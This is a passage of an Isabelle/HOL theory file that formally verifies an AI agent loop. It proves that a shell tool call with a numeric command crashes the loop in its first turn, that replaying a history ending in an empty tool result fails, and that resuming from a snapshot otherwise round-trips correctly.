  then show ?thesis
    using run limit by (simp add: run_agenticLoop_def turns_run_def)
qed

text \<open>The session with the shell tool: the one call of every response raises in
  \<open>getConfirmation\<close>, so the first turn ends the generator with that error.\<close>

lemma shell_consume:
  "consume (chatCompletion shell_env t request schemas)
     = ([], [], [\<lparr>call_id = ''call_1'', pending_name = ''shell'',
                   pending_arguments = [(''command'', Some (JNum 42))]\<rparr>], None)"
  by (simp add: shell_env_def consume_def consume_event_def number_call_event_def truthy_string_def)

lemma shell_invoke:
  "invoke pcwd shell_registry ''shell'' [(''command'', Some (JNum 42))] wd (Some am) (hooks, w)
     = (Inl ''TypeError: params.command.includes is not a function'',
        hooks @ [BeforeTool ''shell'' [(''command'', Some (JNum 42))]], w)"
proof -
  let ?tool = "ShellTool (\<lambda>invocation w. (Inr (ToolResult_success []), w))"
  let ?ps = "[(''command'', Some (JNum 42))]"
  have get: "registry_get shell_registry ''shell'' = Some ?tool"
    by (simp add: registry_get_def shell_registry_def)
  have valid: "validateParams ?tool ?ps = []"
    by (simp add: validateParams_def ShellTool_def schema_required_fields_def is_missing_def)
  have raise: "getConfirmation ?tool \<lparr>inv_params = ?ps, inv_cwd = wd\<rparr> w
                 = Inl ''TypeError: params.command.includes is not a function''"
    by (simp add: ShellTool_def shell_getConfirmation_def)
  show ?thesis
    by (rule invoke_getConfirmation_raises [OF get valid raise])
qed

lemma shell_dispatch:
  assumes "toolRegistry s = shell_registry"
  shows "dispatch E
           [\<lparr>call_id = ''call_1'', pending_name = ''shell'',
             pending_arguments = [(''command'', Some (JNum 42))]\<rparr>] (yielded, toolResults, s)
           = (yielded @ [ToolCallStart ''call_1'' ''shell'' [(''command'', Some (JNum 42))]], toolResults,
              s\<lparr>loopDetector :=
                   recordAction (jsString E) ''tool_call''
                     \<lparr>d_toolName = Some ''shell'', d_args = Some [(''command'', Some (JNum 42))],
                      d_text = None\<rparr> (loopDetector s),
                 hookLog := hookLog s @ [BeforeTool ''shell'' [(''command'', Some (JNum 42))]],
                 world := world s\<rparr>,
              Some ''TypeError: params.command.includes is not a function'')"
  using assms by (simp add: Let_def shell_invoke)

lemma shell_turn:
  assumes "toolRegistry s = shell_registry"
  shows "fst (turn shell_env s) = [ToolCallStart ''call_1'' ''shell'' [(''command'', Some (JNum 42))]]
         \<and> fst (snd (turn shell_env s)) = Raised ''TypeError: params.command.includes is not a function''"
  using assms
  by (simp add: turn_def Let_def shell_consume shell_dispatch del: dispatch.simps)

text \<open>
  Claim C5, at the input where the code departs from it. The limit is 1 and the model
  answers every request with a call of the shell tool whose command is the number 42. The
  loop ends in its first turn, for every amount of fuel: the call is announced, then the
  error raised by \<open>getConfirmation\<close> leaves \<open>invoke\<close> and, nothing catching it, the
  generator. The turn counter is 1; no limit-reached event is yielded.
\<close>

theorem agenticLoop_shell_number_command:
  "maxTurns (config shell_session) = Finite 1
   \<and> requests_tool_call (chatCompletion shell_env t request schemas)
   \<and> map_option (\<lambda>(yielded, raised, s). (yielded, raised, turnCount s))
        (run_agenticLoop (Suc fuel) shell_env shell_session)
       = Some ([ToolCallStart ''call_1'' ''shell'' [(''command'', Some (JNum 42))]],
               Some ''TypeError: params.command.includes is not a function'', 1)"
proof -
  have limit: "maxTurns (config shell_session) = Finite 1"
    by (simp add: shell_session_def new_Session_def sample_config_def)
  have asks: "requests_tool_call (chatCompletion shell_env t request schemas)"
    by (simp add: shell_env_def requests_tool_call_def number_call_event_def)
  have "toolRegistry shell_session = shell_registry" and start: "turnCount shell_session = 0"
    by (simp_all add: shell_session_def new_Session_def)
  then obtain s' where
    step: "turn shell_env shell_session
             = ([ToolCallStart ''call_1'' ''shell'' [(''command'', Some (JNum 42))]],
                Raised ''TypeError: params.command.includes is not a function'', s')"
    using shell_turn [of shell_session] by (cases "turn shell_env shell_session") auto
  then have "turnCount s' = 1"
    using turn_session [of shell_env shell_session] start by (simp add: increment_def)
  then show ?thesis
    using limit asks step by (simp add: run_agenticLoop_def)
qed


section \<open>Properties of resuming from a snapshot\<close>

lemma replay_user:
  assumes "replayable tk (modelName cm) m" and "role m = ''user''"
  shows "replay_message tk (item_payload m) cm = Inr (cm\<lparr>messages := messages cm @ [m\<lparr>prunedAt := None\<rparr>]\<rparr>)"
proof -
  have f: "content m \<noteq> []" "toolCallId m = None" "toolCalls m = None"
    "tokenCount m = Some (tk (content m) (modelName cm))"
    using assms by (simp_all add: replayable_def)
  have p: "item_payload m = \<lparr>p_role = ''user'', p_tool_call_id = None, p_tool_calls = None,
                             p_content = Some (content m)\<rparr>"
    using f assms(2) by (simp add: item_payload_def truthy_string_def)
  have m: "m\<lparr>prunedAt := None\<rparr>
             = \<lparr>role = ''user'', content = content m, toolCallId = None, toolCalls = None,
                tokenCount = Some (tk (content m) (modelName cm)), prunedAt = None\<rparr>"
    using f assms(2) by (cases m) simp
  show ?thesis
    unfolding p m by (simp add: replay_message_def addUserMessage_def)
qed

lemma replay_assistant:
  assumes "replayable tk (modelName cm) m" and "role m = ''assistant''"
  shows "replay_message tk (item_payload m) cm = Inr (cm\<lparr>messages := messages cm @ [m\<lparr>prunedAt := None\<rparr>]\<rparr>)"
proof -
  have "role m \<noteq> ''user''"
    using assms(2) by simp
  then obtain calls where f: "toolCallId m = None" "toolCalls m = Some calls"
    "tokenCount m = Some (tk (content m) (modelName cm))"
    using assms by (auto simp: replayable_def)
  have p: "item_payload m
             = \<lparr>p_role = ''assistant'', p_tool_call_id = None,
                p_tool_calls = (if calls = [] then None else Some calls),
                p_content = (if content m = [] then None else Some (content m))\<rparr>"
    using f assms(2) by (simp add: item_payload_def truthy_string_def)
  have m: "m\<lparr>prunedAt := None\<rparr>
             = \<lparr>role = ''assistant'', content = content m, toolCallId = None, toolCalls = Some calls,
                tokenCount = Some (tk (content m) (modelName cm)), prunedAt = None\<rparr>"
    using f assms(2) by (cases m) simp
  show ?thesis
    unfolding p m by (simp add: replay_message_def addAssistantMessage_def Let_def)
qed

lemma replay_tool:
  assumes "replayable tk (modelName cm) m" and "role m = ''tool''"
  shows "replay_message tk (item_payload m) cm = Inr (cm\<lparr>messages := messages cm @ [m\<lparr>prunedAt := None\<rparr>]\<rparr>)"
proof -
  have "role m \<noteq> ''user''" and "role m \<noteq> ''assistant''"
    using assms(2) by simp_all
  then have f: "content m \<noteq> []" "truthy_string (toolCallId m)" "toolCalls m = None"
    "tokenCount m = Some (tk (content m) (modelName cm))"
    using assms(1) by (simp_all add: replayable_def)
  have p: "item_payload m = \<lparr>p_role = ''tool'', p_tool_call_id = toolCallId m, p_tool_calls = None,
                             p_content = Some (content m)\<rparr>"
    using f assms(2) by (simp add: item_payload_def)
  have m: "m\<lparr>prunedAt := None\<rparr>
             = \<lparr>role = ''tool'', content = content m, toolCallId = toolCallId m, toolCalls = None,
                tokenCount = Some (tk (content m) (modelName cm)), prunedAt = None\<rparr>"
    using f assms(2) by (cases m) simp
  show ?thesis
    unfolding p m by (simp add: replay_message_def addToolResult_def)
qed

lemma replay_message_replayable:
  assumes "replayable tk (modelName cm) m"
  shows "replay_message tk (item_payload m) cm = Inr (cm\<lparr>messages := messages cm @ [m\<lparr>prunedAt := None\<rparr>]\<rparr>)"
proof -
  have "role m = ''user'' \<or> role m = ''assistant'' \<or> role m = ''tool''"
    using assms unfolding replayable_def by presburger
  then show ?thesis
    using assms replay_user replay_assistant replay_tool by blast
qed

lemma replay_replayable:
  assumes "list_all (replayable tk (modelName cm)) ms"
  shows "replay tk (map item_payload ms) cm
           = Inr (cm\<lparr>messages := messages cm @ map (\<lambda>m. m\<lparr>prunedAt := None\<rparr>) ms\<rparr>)"
  using assms
proof (induction ms arbitrary: cm)
  case Nil
  then show ?case by simp
next
  case (Cons m ms)
  let ?cm = "cm\<lparr>messages := messages cm @ [m\<lparr>prunedAt := None\<rparr>]\<rparr>"
  have "replay_message tk (item_payload m) cm = Inr ?cm"
    using Cons.prems by (simp add: replay_message_replayable)
  moreover have "list_all (replayable tk (modelName ?cm)) ms"
    using Cons.prems by simp
  ultimately show ?case
    using Cons.IH [of ?cm] by simp
qed

lemma resume_roundtrip:
  assumes "messages fresh = []" and "modelName fresh = modelName cm"
    and "list_all (replayable tk (modelName cm)) (messages cm)"
  shows "\<exists>resumed. replay tk (getMessages cm) fresh = Inr resumed
           \<and> map message_core (messages resumed) = map message_core (messages cm)"
proof -
  have "replay tk (getMessages cm) fresh = replay tk (map item_payload (messages cm)) fresh"
    by (simp add: getMessages_def replay_message_def)
  also have "\<dots> = Inr (fresh\<lparr>messages := map (\<lambda>m. m\<lparr>prunedAt := None\<rparr>) (messages cm)\<rparr>)"
    using assms replay_replayable [of tk fresh "messages cm"] by simp
  finally show ?thesis
    by (simp add: message_core_def comp_def)
qed

text \<open>
  Claim C9, at the input where the code departs from it. A session runs a tool that succeeds
  without output, so the history ends with a tool message whose content is empty. The
  snapshot of that history leaves the content of that message out, the replay hands the
  missing field to \<open>addToolResult\<close>, and the replay stops with a type error instead of
  rebuilding the three messages.
\<close>

theorem resume_empty_tool_output:
  "p_content (last (getMessages
      (addToolResult tk (Some ''call_1'') []
        (addAssistantMessage tk None
           (Some [call])
           (addUserMessage tk ''make the build directory''
              \<lparr>systemPrompt = prompt, modelName = model, messages = [], latestUsage = u,
               totalUsage = u\<rparr>))))) = None
   \<and> replay tk
        (getMessages
          (addToolResult tk (Some ''call_1'') []
            (addAssistantMessage tk None
               (Some [call])
               (addUserMessage tk ''make the build directory''
                  \<lparr>systemPrompt = prompt, modelName = model, messages = [], latestUsage = u,
                   totalUsage = u\<rparr>))))
        \<lparr>systemPrompt = prompt, modelName = model, messages = [], latestUsage = u, totalUsage = u\<rparr>
       = Inl TypeError"
  by (simp add: getMessages_def item_payload_def addToolResult_def addAssistantMessage_def
      addUserMessage_def replay_message_def truthy_string_def)

end
